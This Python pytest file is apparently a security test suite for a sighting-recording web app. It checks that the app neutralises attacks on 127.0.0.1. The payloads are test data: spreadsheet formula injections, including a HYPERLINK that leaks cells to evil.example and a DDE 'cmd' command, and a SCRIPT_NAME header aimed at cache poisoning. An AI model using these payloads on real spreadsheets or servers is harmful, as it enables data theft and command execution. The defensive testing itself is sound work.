"""SPUCSVi probed as a hostile visitor would: every finding of the issue "Open to
the whole community" replayed over real HTTP on 127.0.0.1, against the SPUC
emulator or a fake SPUC, bounded in connections and time.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import socket
import stat
import threading
import time

import pytest
import requests

from tests.support.apps import make_app, post_sighting
from tests.support.fakes import FakeSpuc, closed_port_url, http_response
from tests.support.servers import ROOT, gunicorn, running

SAME_SITE = {"Sec-Fetch-Site": "same-origin"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
]


def put(spuc_url: str, location: str, brightness: str = "4") -> requests.Response:
    """A sighting sent straight to SPUC, as curl would."""
    return requests.put(
        f"{spuc_url}/unicorn_spotted",
        params={"location": location, "brightness": brightness},
        timeout=10,
    )


def raw_http(port: int, data: bytes, *, host: str = "127.0.0.1", timeout: float = 10) -> bytes:
    """Send raw bytes, read the whole answer (the server closes or says its length)."""
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.sendall(data)
        answer = b""
        while True:
            try:
                chunk = sock.recv(65536)
            except TimeoutError:
                break
            if not chunk:
                break
            answer += chunk
            head, _, body = answer.partition(b"\r\n\r\n")
            length = [
                int(line.split(b":")[1])
                for line in head.split(b"\r\n")
                if line.lower().startswith(b"content-length:")
            ]
            if length and len(body) >= length[0]:
                break
        return answer


# --- 3. spreadsheet formulas in the CSV ---------------------------------------------


def test_csv_cells_never_start_a_formula_and_json_keeps_the_value(client, spuc):
    for location in FORMULAS:
        assert put(spuc.url, location).status_code == 200
    put(spuc.url, "moon", "-3").raise_for_status()
    put(spuc.url, "=1+2", "+5").raise_for_status()
    text = client.get("/sightings.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            # Only plain numbers may keep a sign: a spreadsheet reads them as constants.
            float(cell)
    locations = [row[2] for row in rows[1:]]
    assert locations[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert rows[-2][2:4] == ["moon", "-3"]  # a negative number stays a number
    assert rows[-1][2:4] == ["'=1+2", "+5"]  # +5 is the number 5
    sightings = client.get("/api/sightings?per_page=200&sort=time&order=asc").get_json()
    assert [s["location"] for s in sightings["sightings"]][: len(FORMULAS)] == FORMULAS


def test_csv_cells_split_on_semicolons_or_tabs_never_start_a_formula(client, spuc):
    """A spreadsheet in a `;` locale (or reading tabs) starts a cell after each separator."""
    hostile = ["x;=1+1;", "moon;@SUM(A1)", "a\t=HYPERLINK(1)", "b;-2+3;-3"]
    for location in hostile:
        assert put(spuc.url, location).status_code == 200
    text = client.get("/sightings.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    locations = [row[2] for row in rows[1:]]
    assert locations == ["x;'=1+1;", "moon;'@SUM(A1)", "a\t'=HYPERLINK(1)", "b;'-2+3;-3"]
    for cell in (cell for row in rows[1:] for cell in row):
        for part in re.split(r"[;\t]", cell):
            if part[:1] in ("=", "+", "-", "@"):
                float(part)  # only a plain number may start with a sign


# --- 4. no secret shown -------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("user_part", ["unicorn:s3cr3t-pa55", "s3cr3t-pa55"])
def test_a_password_or_token_in_spuc_url_is_never_shown(tmp_path, spuc, user_part):
    secret = "s3cr3t-pa55"
    down = closed_port_url().replace("http://", f"http://{user_part}@")
    up = spuc.url.replace("http://", f"http://{user_part}@")
    seen = []
    for url in (down, up):
        server = gunicorn(tmp_path, url, workers=1, threads=2, name=f"secret-{len(seen)}")
        with running(server):
            for path in ("/", "/-/info", "/readyz", "/api/sightings", "/api/summary"):
                seen.append(requests.get(f"{server.url}{path}", timeout=10).text)
            seen.append(
                requests.post(
                    f"{server.url}/api/sightings",
                    json={"location": "x", "brightness": 1},
                    timeout=10,
                ).text
            )
            seen.append(
                requests.post(f"{server.url}/sightings", data={"location": "x"}, timeout=10).text
            )
        seen.append(server.output())
    assert all(secret not in text for text in seen)
    assert any("http://***@127.0.0.1" in text for text in seen[:6])  # the banner, /-/info...


# --- 5. oversized records ------------------------------------------------------------

BIG = 256_000


def test_an_oversized_location_is_shortened_on_the_page_and_whole_in_json_and_csv(client, spuc):
    huge = "m" * BIG
    for _ in range(20):
        assert put(spuc.url, huge).status_code == 200
    put(spuc.url, "venus").raise_for_status()
    page = client.get("/")
    html = page.get_data(as_text=True)
    assert len(page.get_data()) < 300_000, len(page.get_data())
    assert "m" * 201 not in html
    assert "\N{HORIZONTAL ELLIPSIS} (256,000 characters)" in html
    # The filter list offers the long location by its shortened form, which filters.
    shown = "m" * 200 + "\N{HORIZONTAL ELLIPSIS} (256,000 characters)"
    filtered = client.get("/api/summary", query_string={"location": shown}).get_json()
    assert filtered["total"] == 20
    # Full text where the data is downloaded.
    rows = client.get("/api/sightings?per_page=1&sort=time&order=asc").get_json()
    assert rows["sightings"][0]["location"] == huge
    with client.get("/sightings.csv") as csv_file:  # over 1 MB: a temporary file to close
        assert huge in csv_file.get_data(as_text=True)


def test_the_page_at_100000_sightings_stays_within_its_budget(seeded):
    lines = ["count,time,location,brightness,units"]
    lines += [
        f"{i},2026-11-27 18:{i // 3600 % 60:02d}:{i % 60:02d},loc {i % 40},{i % 97},iuhc"
        for i in range(1, 100_001)
    ]
    lines += [f"100001,2026-11-28 00:00:00,{'x' * BIG},1,iuhc"]
    client, _ = seeded("\n".join(lines) + "\n")
    page = client.get("/", headers={"Accept-Encoding": "gzip"})
    assert page.headers["Content-Encoding"] == "gzip"
    # Measured here: 18.9 KB gzip, 163 KB plain (before: 1.19 MB plain, the 256 KB
    # record shown whole in the table, summary, filter list and chart data).
    assert len(page.get_data()) < 150_000, len(page.get_data())
    assert len(gzip.decompress(page.get_data())) < 1_000_000


# --- 7. the small ones -------------------------------------------------------------


def test_quotes_reach_the_charts_escaped_once(client, spuc):
    put(spuc.url, 'the "big" <b>crater</b> & co').raise_for_status()
    html = client.get("/").get_data(as_text=True)
    start = html.index('id="locations-chart-data">') + len('id="locations-chart-data">')
    figure = json.loads(html[start : html.index("</script>", start)])
    # In lines for the hover (data/display.py, HOVER_LINE).
    assert figure["data"][0]["y"] == ['the "big" &lt;b&gt;crater&lt;/b&gt;<br>&amp; co']


@pytest.mark.parametrize("location", ["mo\u200bon", "\ufeffmoon", "\u202egnp.exe", "a\u2066b"])
def test_invisible_and_direction_characters_are_refused(client, spuc, location):
    form = post_sighting(client, location, "3")
    assert form.status_code == 422
    assert "invisible or text-direction characters" in form.get_data(as_text=True)
    api = client.post("/api/sightings", json={"location": location, "brightness": 3})
    assert api.status_code == 422
    assert not spuc.data_file.exists()


def test_a_location_is_normalised_before_spuc_sees_it(client, spuc):
    assert post_sighting(client, "cafe\u0301", "3").status_code == 303
    assert (
        client.post("/api/sightings", json={"location": "caf\u00e9", "brightness": 4}).json[
            "sighting"
        ]["location"]
        == "caf\u00e9"
    )
    lines = spuc.data_file.read_text(encoding="utf-8").splitlines()[1:]
    assert [line.split(",")[2] for line in lines] == ["caf\u00e9", "caf\u00e9"]


@pytest.mark.parametrize("encoding", ["gzip;q=0", "gzip;q=0, *;q=1", "br;q=0, gzip;q=0, *;q=0"])
def test_accept_encoding_q0_is_never_compressed(client, spuc, encoding):
    put(spuc.url, "venus").raise_for_status()
    for path in ("/", "/api/sightings", "/api/summary", "/sightings.csv", "/-/info"):
        response = client.get(path, headers={"Accept-Encoding": encoding})
        response.get_data()
        refused = {e.split(";")[0].strip() for e in encoding.split(",") if "q=0" in e}
        assert response.headers.get("Content-Encoding") not in refused, path
    accepted = client.get("/", headers={"Accept-Encoding": "gzip;q=0.5, br;q=0"})
    assert accepted.headers.get("Content-Encoding") == "gzip"


def test_the_emulator_takes_a_256_kb_request_head_and_refuses_more(spuc):
    location = "q" * (250 * 1024)
    assert put(spuc.url, location).status_code == 200
    assert spuc.data_file.read_text().count("q" * 1000) >= 250
    header = {"X-Big": "h" * (200 * 1024)}
    assert requests.get(f"{spuc.url}/export", headers=header, timeout=10).status_code == 200
    too_big = requests.put(
        f"{spuc.url}/unicorn_spotted",
        params={"location": "q" * (257 * 1024), "brightness": "1"},
        timeout=10,
    )
    assert too_big.status_code == 431


def test_the_default_submit_lock_is_in_a_private_folder(spuc, tmp_path, monkeypatch):
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    app = make_app(spuc.url, tmp_path)
    settings = app.config["SPUCSVI_SETTINGS"].__class__(spuc_url=spuc.url)
    assert post_sighting(app.test_client(), "venus", "1").status_code == 303
    folder = settings.lock_path.parent
    assert folder.parent == tmp_path
    info = folder.stat()
    assert stat.S_IMODE(info.st_mode) == 0o700
    # A folder others can open is refused, not used (test_write_path.py: what is used).
    folder.chmod(0o777)
    assert settings.lock_path.parent != folder


@pytest.fixture
def slow_spuc():
    """A SPUC taking 4.5 s for each PUT; its export answers at once."""

    def respond(request, connection):
        if request.method == "PUT":
            time.sleep(4.5)
            connection.sendall(http_response(200, b'{"message": "Unicorn sighting recorded!"}'))
        else:
            connection.sendall(http_response(200, b'{"message": "No unicorn sightings yet!"}'))

    with FakeSpuc(respond) as fake:
        yield fake


@pytest.mark.slow
def test_healthz_never_waits_behind_submissions_to_a_slow_spuc(tmp_path, slow_spuc):
    server = gunicorn(tmp_path, slow_spuc.url, env={"SPUC_READ_TIMEOUT": "10"})
    stop = time.monotonic() + 9
    statuses: list[int] = []

    def submitter() -> None:
        while time.monotonic() < stop:
            try:
                with requests.post(
                    f"{server.url}/sightings",
                    data={"location": "slow", "brightness": "1"},
                    headers=SAME_SITE,
                    allow_redirects=False,
                    timeout=20,
                ) as answer:
                    statuses.append(answer.status_code)
            except requests.RequestException:
                statuses.append(0)

    with running(server):
        threads = [threading.Thread(target=submitter) for _ in range(8)]
        for thread in threads:
            thread.start()
        time.sleep(1)
        slowest = 0.0
        while time.monotonic() < stop - 1:
            started = time.monotonic()
            requests.get(f"{server.url}/healthz", timeout=15).raise_for_status()
            slowest = max(slowest, time.monotonic() - started)
            time.sleep(0.2)
        for thread in threads:
            thread.join(timeout=30)
    # Under compose's 3 s healthcheck timeout with room to spare: submissions wait
    # for a turn only while the one at SPUC is younger than OVERDUE (1.5 s).
    assert slowest < 2.0, slowest
    assert 503 in statuses  # told to try again, not kept waiting


@pytest.mark.slow
def test_a_chunked_body_over_the_limit_is_refused_not_cut(tmp_path, spuc):
    server = gunicorn(tmp_path, spuc.url, workers=1, threads=2)
    port = int(server.url.rsplit(":", 1)[1])
    body = b"location=moon&brightness=123456789" + b"&pad=" + b"x" * 20_000
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    with running(server):
        for path, kind in (
            ("/sightings", b"application/x-www-form-urlencoded"),
            ("/api/sightings", b"application/json"),
        ):
            request = (
                b"POST " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                b"Content-Type: " + kind + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked
            )
            answer = raw_http(port, request)
            assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        small = b"location=moon&brightness=7"
        request = (
            b"POST /sightings HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
            + b"%x\r\n%s\r\n0\r\n\r\n"
            % (len(small), small)
        )
        assert raw_http(port, request).startswith(b"HTTP/1.1 303")
    assert spuc.data_file.read_text().splitlines()[1:][0].split(",")[2:4] == ["moon", "7"]


# --- 2. a poisoned page --------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("allow", ["", "*"], ids=["project-settings", "forwarded-allow-all"])
def test_a_script_name_header_poisons_no_page(tmp_path, spuc, allow):
    put(spuc.url, "venus").raise_for_status()
    env = {"FORWARDED_ALLOW_IPS": allow} if allow else {}
    server = gunicorn(tmp_path, spuc.url, config=ROOT / "gunicorn.conf.py", env=env)
    port = int(server.url.rsplit(":", 1)[1])
    with running(server):
        for n in range(2, 12):  # evict the default page from those built again first
            requests.get(f"{server.url}/?page={n}", timeout=10)
        for _ in range(4):  # reach both workers
            attack = raw_http(
                port,
                b"GET //evil.example/ HTTP/1.1\r\nHost: x\r\nSCRIPT_NAME: //evil.example\r\n"
                b"Connection: close\r\n\r\n",
            )
            assert b"evil.example/sightings" not in attack
        put(spuc.url, "mars").raise_for_status()  # a new version: pages are built again
        time.sleep(1.5)
        for _ in range(6):
            answer = requests.get(f"{server.url}/", timeout=10)
            assert answer.status_code == 200
            assert "evil" not in answer.text


# --- 6. floods -----------------------------------------------------------------------


@pytest.mark.slow
def test_a_flood_is_cut_while_another_visitor_still_submits(tmp_path, spuc):
    server = gunicorn(tmp_path, spuc.url, env={"SPUCSVI_SUBMIT_RATE": "5/minute"})
    with running(server):
        answers = []
        for i in range(12):  # new connections: both workers share the count
            with requests.Session() as flood:
                if i % 2:
                    answers.append(
                        flood.post(
                            f"{server.url}/api/sightings",
                            json={"location": f"flood {i}", "brightness": 1},
                            timeout=10,
                        )
                    )
                else:
                    answers.append(
                        flood.post(
                            f"{server.url}/sightings",
                            data={"location": f"flood {i}", "brightness": "1"},
                            headers=SAME_SITE,
                            allow_redirects=False,
                            timeout=10,
                        )
                    )
        statuses = [a.status_code for a in answers]
        assert statuses[:5] == [303, 201, 303, 201, 303], statuses
        assert set(statuses[5:]) == {429}, statuses
        form, api = answers[6], answers[7]
        assert int(form.headers["Retry-After"]) >= 1
        assert "many sightings in a short time" in form.text
        assert 'value="flood 6"' in form.text  # the form keeps the visitor's values
        assert api.json()["status"] == 429 and int(api.headers["Retry-After"]) >= 1
        # Another visitor, from another loopback address, is not limited.
        other = requests.Session()
        other.mount("http://", _SourceAdapter("127.0.0.2"))
        answer = other.post(
            f"{server.url}/sightings",
            data={"location": "neighbour", "brightness": "2"},
            headers=SAME_SITE,
            allow_redirects=False,
            timeout=10,
        )
        assert answer.status_code == 303
    recorded = [line.split(",")[2] for line in spuc.data_file.read_text().splitlines()[1:]]
    assert recorded == [f"flood {i}" for i in range(5)] + ["neighbour"]


def test_downloads_made_at_once_are_bounded_and_every_slot_comes_back(client, spuc):
    """A file of 10,000,000 sightings takes a thread about 20 s: at most two are
    made at once in a process, so a handful of clients asking for files cannot
    take every request thread from the pages; a slot is given back once the file
    is made, so clients that read slowly (or never) hold none."""
    from spucsvi.web.api import DOWNLOADS, _download_slots

    put(spuc.url, "moon")
    paths = ["/sightings.csv", "/sightings.json"]
    # Answers begun and never read hold no slot.
    started = [client.get(paths[i % 2], buffered=False) for i in range(3 * DOWNLOADS)]
    assert [a.status_code for a in started] == [200] * 3 * DOWNLOADS
    slots = _download_slots()
    for _ in range(DOWNLOADS):  # as files being made hold them
        assert slots.acquire(blocking=False)
    busy = client.get("/sightings.csv")
    assert busy.status_code == 503 and int(busy.headers["Retry-After"]) >= 1
    assert "try again in a few seconds" in busy.get_json()["error"]
    assert client.get("/").status_code == 200  # the page is not a download
    for _ in range(DOWNLOADS):
        slots.release()
    for answer in reversed(started):  # each holds a request context of this one thread
        answer.close()
    for _ in range(3 * DOWNLOADS):
        with client.head("/sightings.json") as answer:
            assert answer.status_code == 200
    assert client.get("/sightings.json").get_json()["total"] == 1


def test_download_slots_come_back_under_a_real_server(tmp_path, spuc):
    from spucsvi.web.api import DOWNLOADS

    put(spuc.url, "moon")
    with running(server := gunicorn(tmp_path, spuc.url, workers=1, threads=2)):
        for _ in range(3 * DOWNLOADS):
            for path in ("/sightings.csv", "/sightings.json"):
                assert requests.head(server.url + path, timeout=10).status_code == 200
                with requests.get(server.url + path, stream=True, timeout=10) as cut:
                    assert cut.status_code == 200  # left after its first bytes
                    next(cut.iter_content(16))
        assert requests.get(f"{server.url}/sightings.json", timeout=10).json()["total"] == 1


class _SourceAdapter(requests.adapters.HTTPAdapter):
    """Connections from another local address (127.0.0.2 is loopback too)."""

    def __init__(self, source: str):
        self.source = source
        super().__init__()

    def init_poolmanager(self, *args, **kwargs):
        kwargs["source_address"] = (self.source, 0)
        super().init_poolmanager(*args, **kwargs)


def test_a_bad_submit_rate_stops_the_app_naming_it(spuc, tmp_path):
    from spucsvi.settings import SettingsError

    with pytest.raises(SettingsError, match="SPUCSVI_SUBMIT_RATE"):
        make_app(spuc.url, tmp_path, SPUCSVI_SUBMIT_RATE="lots")
